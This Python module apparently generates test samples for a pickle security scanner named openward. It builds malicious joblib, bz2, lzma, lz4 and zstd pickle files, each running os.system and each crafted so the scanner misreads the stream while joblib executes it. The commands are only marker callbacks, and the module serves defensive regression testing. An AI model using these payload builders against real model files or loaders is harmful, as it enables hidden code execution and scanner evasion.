"""joblib files that openward and ``joblib.load`` used to read differently.

joblib writes a numpy array's bytes straight into the pickle stream after the
``NumpyArrayWrapper``'s BUILD, and its unpickler skips them by the size the
wrapper describes. Each sample here made openward skip a different number of
bytes than ``joblib.load`` does, so the payload joblib runs after the array
was invisible (found by the second-engineer attack on the pickle analysis,
branch ``atk-pickle``):

- a dtype whose pickled flags claim Python objects on numpy's shared builtin
  ``float64`` (``np.dtype('f8', False, False)``): numpy ignores those flags,
  openward read a nested pickle instead of 8 raw bytes;
- a wrapper whose BUILD state is ``collections.OrderedDict([...])``: Python's
  ``load_build`` applies it, openward read the shape from ``__init__``;
- a second BUILD right after the wrapper's: joblib has replaced the wrapper
  by the array, so that BUILD is ``ndarray.__setstate__``; openward skipped a
  second array over the payload.

In each, the first array's bytes start with a STOP opcode so that
``pickle.load``'s own reading of the stream ends there too.

joblib also unpickles with Python's own ``pickle._Unpickler``, not the C one:
it reads a FLOAT line with ``float()``, which takes ``F 1.0`` (a space) that
the C unpickler, and openward reading as it does, stopped at; and it reads a
FRAME that claims more bytes than the file holds (the C unpickler refuses it).

And joblib (like ``bz2.open``, so pandas.read_pickle) reads every stream of a
bz2 file: one that starts with an empty stream (``BZh9`` then the
end-of-stream marker) was not recognised as bz2 at all; nor was an ``.lzma``
stream with a 3 KiB dictionary, which ``lzma.open`` (pandas' ``.xz``) reads.
lz4 and zstd readers step over skippable frames: joblib's lz4 file read a
pickle split by one, and zstd readers (pandas' too) read a pickle behind one,
both invisible to openward.

joblib's unpickler buffers a whole FRAME and reads an array's bytes (or an
object array's nested pickle) from the file, after the frame. A wrapper built
before the end of its frame therefore has its nested pickle after the frame,
where openward, reading on from the BUILD, saw only bytes a BINBYTES swallowed.
And joblib reads that nested pickle with a plain ``pickle._Unpickler``: an array
wrapper inside it is an ordinary object, yet openward skipped "its" array
bytes, over a payload whose names come from the nested pickle's own memo (the
outer ``pickle.load`` reading, with the outer memo, resolved them to
``collections.OrderedDict``).
"""

from __future__ import annotations

import bz2
import lzma
import struct
from collections.abc import Callable

__all__ = ["malicious"]


def _u(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _system(command: str) -> bytes:
    """``os.system(command)``, result popped."""
    return b"cos\nsystem\n(" + _u(command) + b"tR0"


def _dtype(copy: bool, flags: int | None = None) -> bytes:
    out = b"cnumpy\ndtype\n(" + _u("f8") + b"\x89" + (b"\x88" if copy else b"\x89") + b"tR"
    if flags is not None:
        state = b"(K\x03" + _u("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
        out += state + b"K" + bytes([flags]) + b"tb"
    return out


def _wrapper(count: int, dtype: bytes) -> bytes:
    """``NumpyArrayWrapper(np.ndarray, (count,), 'C', dtype)``: __init__ runs."""
    return (
        b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n(cnumpy\nndarray\nK"
        + bytes([count])
        + b"\x85"
        + _u("C")
        + dtype
        + b"tR"
    )


def flags_on_builtin_dtype(command: str) -> bytes:
    # Alignment padding of 0x2E bytes: its length byte is STOP for pickle.load.
    payload = _system(command)
    data = b"N.B" + struct.pack("<I", 1 + len(payload)) + b"\0"  # 8 bytes for joblib
    return (
        b"\x80\x02"
        + _wrapper(1, _dtype(copy=False, flags=1))
        + b"}b"
        + b"\x2e"
        + b"\0" * 0x2E
        + data
        + payload
        + b"."
    )


def ordered_dict_state(command: str) -> bytes:
    state = b"ccollections\nOrderedDict\n(](" + _u("shape") + b"K\x03\x85tatR"
    data = b"\0" * 8 + b"." + b"\xff" + b"\0" * 14  # 24 bytes for joblib, 8 for __init__'s shape
    return (
        b"\x80\x02"
        + _wrapper(1, _dtype(copy=True))
        + state
        + b"b"
        + b"\x2e"
        + b"\0" * 0x2E
        + data
        + _system(command)
        + b"."
    )


def build_after_wrapper(command: str) -> bytes:
    count = 8
    no_padding = b"}" + _u("numpy_array_alignment_bytes") + b"Ns"
    data = b"." + b"\0" * (8 * count - 1)
    array_state = (
        b"(K\x01K"
        + bytes([count])
        + b"\x85"
        + _dtype(copy=True)
        + b"\x89C"
        + bytes([8 * count])
        + b"\0" * (8 * count)
        + b"t"
    )
    tail = _system(command) + b"."
    tail += b"\0" * (8 * count - len(tail)) + b"."
    return (
        b"\x80\x02"
        + _wrapper(count, _dtype(copy=True))
        + no_padding
        + b"b"
        + data
        + array_state
        + b"b"
        + tail
    )


def float_line_python_reads(command: str) -> bytes:
    return b"\x80\x02F 1_0.5\n0" + _system(command)[:-1] + b"."


def bz2_empty_first_stream(command: str) -> bytes:
    return bz2.compress(b"") + bz2.compress(b"\x80\x02" + _system(command)[:-1] + b".")


def lzma_small_dictionary(command: str) -> bytes:
    data = bytearray(lzma.compress(b"\x80\x02" + _system(command)[:-1] + b".", lzma.FORMAT_ALONE))
    data[1:5] = (3 << 10).to_bytes(4, "little")  # 3 KiB: 2^11 + 2^10
    return bytes(data)


def frame_past_the_end(command: str) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", 1 << 20) + _system(command)[:-1] + b"."


def object_array_inside_frame(command: str) -> bytes:
    nested = b"\x80\x02" + _system(command)[:-1] + b"."
    object_dtype = b"cnumpy\ndtype\n(" + _u("O8") + b"\x89\x88tR"
    framed = _wrapper(1, object_dtype) + b"}b" + b"B" + struct.pack("<I", len(nested))
    return b"\x80\x04\x95" + struct.pack("<Q", len(framed)) + framed + nested + b".."


def wrapper_inside_object_array(command: str) -> bytes:
    outer_memo = _u("collections") + b"q\x00" + b"0" + _u("OrderedDict") + b"q\x01" + b"0"
    payload = _u("os") + b"\x94" + _u("system") + b"\x94" + b"h\x00h\x01\x93(" + _u(command)
    payload += b"tR"
    landing = 1 + payload[0] + 8  # what a joblib reading would skip: padding byte, padding, f8
    tail = payload + b"."
    tail += b"\0" * (landing - len(tail)) + b"."
    object_dtype = b"cnumpy\ndtype\n(" + _u("O8") + b"\x89\x88tR"
    nested = b"\x80\x02" + _wrapper(1, _dtype(copy=True)) + b"}b" + tail
    return b"\x80\x02" + outer_memo + _wrapper(1, object_dtype) + b"}b" + nested + b"."


_SKIPPABLE = struct.pack("<II", 0x184D2A51, 4) + b"skip"


def lz4_split_by_skippable_frame(command: str) -> bytes:
    import lz4.frame

    data = b"\x80\x02" + _system(command)[:-1] + b"."
    first, second = bytes(lz4.frame.compress(data[:6])), bytes(lz4.frame.compress(data[6:]))
    return first + _SKIPPABLE + second


def zstd_after_skippable_frame(command: str) -> bytes:
    try:
        from compression import zstd  # type: ignore[import-not-found]  # Python >= 3.14
    except ImportError:
        from backports import zstd  # type: ignore[no-redef,unused-ignore]
    return _SKIPPABLE + bytes(zstd.compress(b"\x80\x02" + _system(command)[:-1] + b"."))


def malicious(add: Callable[..., None], touch: Callable[[str], str]) -> None:
    tag = "joblib-wrapper-inside-object-array"
    add(
        "joblib_arrays/wrapper_in_object_array.joblib",
        wrapper_inside_object_array(touch(tag)),
        tag,
        "an array wrapper inside an object array's nested pickle (joblib reads it as an "
        "ordinary object), then os.system named through the nested pickle's memo",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "joblib-object-array-inside-frame"
    add(
        "joblib_arrays/inside_frame.joblib",
        object_array_inside_frame(touch(tag)),
        tag,
        "object-array wrapper built before the end of its FRAME; joblib reads the nested "
        "pickle (os.system) from after the frame",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "lz4-split-by-skippable-frame"
    add(
        "joblib_arrays/lz4_skippable.joblib",
        lz4_split_by_skippable_frame(touch(tag)),
        tag,
        "joblib lz4 file whose pickle (os.system) is split in two frames by a skippable frame",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "zstd-after-skippable-frame"
    add(
        "joblib_arrays/skippable.pkl.zst",
        zstd_after_skippable_frame(touch(tag)),
        tag,
        "zstd pickle (os.system) behind a skippable frame",
        "pickle-dangerous-global",
        loader="zstd-pickle",
        marker=tag,
    )
    tag = "joblib-frame-past-the-end"
    add(
        "joblib_arrays/long_frame.joblib",
        frame_past_the_end(touch(tag)),
        tag,
        "a FRAME of 1 MiB in a 60-byte file (Python's unpickler reads what is there), "
        "then os.system",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "lzma-alone-small-dictionary"
    add(
        "joblib_arrays/small_dict.pkl.xz",
        lzma_small_dictionary(touch(tag)),
        tag,
        "an .lzma (alone) stream with a 3 KiB dictionary, named .pkl.xz; the pickle calls "
        "os.system",
        "pickle-dangerous-global",
        loader="lzma-pickle",
        marker=tag,
    )
    tag = "joblib-bz2-empty-first-stream"
    add(
        "joblib_arrays/bz2_empty_first.joblib",
        bz2_empty_first_stream(touch(tag)),
        tag,
        "bz2 file whose first stream is empty; the pickle (os.system) is in the second",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "joblib-float-python-unpickler"
    add(
        "joblib_arrays/float_space.joblib",
        float_line_python_reads(touch(tag)),
        tag,
        "FLOAT ' 1_0.5' that only Python's unpickler (joblib's) reads, then os.system",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "joblib-dtype-flags-builtin"
    add(
        "joblib_arrays/dtype_flags.joblib",
        flags_on_builtin_dtype(touch(tag)),
        tag,
        "joblib array whose float64 dtype carries an object flag numpy ignores "
        "(np.dtype('f8', False, False)); os.system after the 8 array bytes",
        "pickle-malformed",
        "high",
        loader="joblib",
        marker=tag,
    )
    tag = "joblib-wrapper-state-call"
    add(
        "joblib_arrays/state_call.joblib",
        ordered_dict_state(touch(tag)),
        tag,
        "joblib array wrapper whose BUILD state is collections.OrderedDict([('shape', (3,))]); "
        "os.system after the 24 array bytes",
        "pickle-malformed",
        "high",
        loader="joblib",
        marker=tag,
    )
    tag = "joblib-build-after-wrapper"
    add(
        "joblib_arrays/build_after_wrapper.joblib",
        build_after_wrapper(touch(tag)),
        tag,
        "a second BUILD right after a joblib wrapper's (ndarray.__setstate__ for joblib), "
        "then os.system",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
